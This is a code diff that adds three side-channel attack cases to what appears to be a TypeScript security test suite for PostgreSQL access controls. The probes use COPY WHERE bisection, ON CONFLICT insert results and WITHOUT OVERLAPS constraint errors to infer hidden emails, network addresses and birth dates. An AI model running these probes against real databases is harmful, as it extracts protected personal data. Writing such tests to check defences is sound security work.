@@ -1,4 +1,7 @@
-/** Expressions where hardly anybody writes one: subscripts of what is assigned, namespaces, seeds, rows beside rows. */
+/**
+ * Expressions where hardly anybody writes one (subscripts of what is assigned, namespaces, seeds, rows beside queries), and
+ * what overlaps what.
+ */
 import type { Attack, Attacker } from '../attack.ts';
 import type { Reply } from '../wire.ts';
 
@@ -106,6 +109,76 @@ export const positions: readonly Attack[] = [
       'SELECT k FROM artikel, jsonb_object_keys(masse) k WHERE id = 1',
     ],
   },
+  {
+    id: 'position.copy-where',
+    writes: true,
+    run: async (attacker) => {
+      const wire = await attacker.connect();
+      await wire.query('CREATE TABLE atk_cw (i int)');
+      await attacker.bisect(12, async (at, code) => {
+        const sql = `COPY atk_cw FROM STDIN WHERE ascii(substr(split_part(zeige_mail(i), '.', 2), ${at}, 1)) > ${code}`;
+        return (await wire.query(sql, Buffer.from('3\n'))).tags[0] === 'COPY 1';
+      });
+    },
+  },
+  {
+    id: 'position.excluded',
+    writes: true,
+    run: async (attacker) => {
+      const wire = await attacker.connect();
+      const isTaken = async (network: string) => {
+        await wire.query('BEGIN');
+        const { tags } = await wire.query(
+          `INSERT INTO rejestr.adresy VALUES (999, '${network}') ON CONFLICT DO NOTHING`,
+        );
+        await wire.query('ROLLBACK');
+        return tags[0] === 'INSERT 0 0';
+      };
+      const found: string[] = [];
+      const search = async (address: number, length: number): Promise<void> => {
+        const dotted = [24, 16, 8, 0].map((shift) => (address >>> shift) & 255).join('.');
+        if (found.length >= 2 || !(await isTaken(`${dotted}/${length}`))) return;
+        if (length === 32) {
+          found.push(dotted);
+          return;
+        }
+        await search(address, length + 1);
+        await search((address | (1 << (31 - length))) >>> 0, length + 1);
+      };
+      await search(0, 0);
+      attacker.found.push(found.join(' '));
+    },
+  },
+  ...(['UNIQUE', 'PRIMARY KEY'] as const).map(
+    (key): Attack => ({
+      id: `position.overlaps-${key.slice(0, 3).toLowerCase()}`,
+      since: 18,
+      writes: true,
+      run: async (attacker) => {
+        const wire = await attacker.connect();
+        const found: string[] = [];
+        for (const row of [3, 4]) {
+          await wire.query(
+            `CREATE TABLE atk_ov AS SELECT int4range(1, 2) AS id, naissance FROM rejestr.abonnes WHERE numero = ${row}`,
+          );
+          await wire.query(`ALTER TABLE atk_ov ADD ${key} (id, naissance WITHOUT OVERLAPS)`);
+          const day = (n: number) => new Date(Date.UTC(1940, 0, 1 + n)).toISOString().slice(0, 10);
+          let [low, high] = [0, 30_000];
+          while (low < high) {
+            const middle = (low + high) >> 1;
+            await wire.query('BEGIN');
+            const { errors } = await wire.query(`INSERT INTO atk_ov VALUES ('[1,2)', '[${day(0)},${day(middle)}]')`);
+            await wire.query('ROLLBACK');
+            if (errors.length > 0) high = middle;
+            else low = middle + 1;
+          }
+          found.push(day(low));
+          await wire.query('DROP TABLE atk_ov');
+        }
+        attacker.found.push(found.join(' '));
+      },
+    }),
+  ),
   {
     id: 'position.seed',
     infers: true,
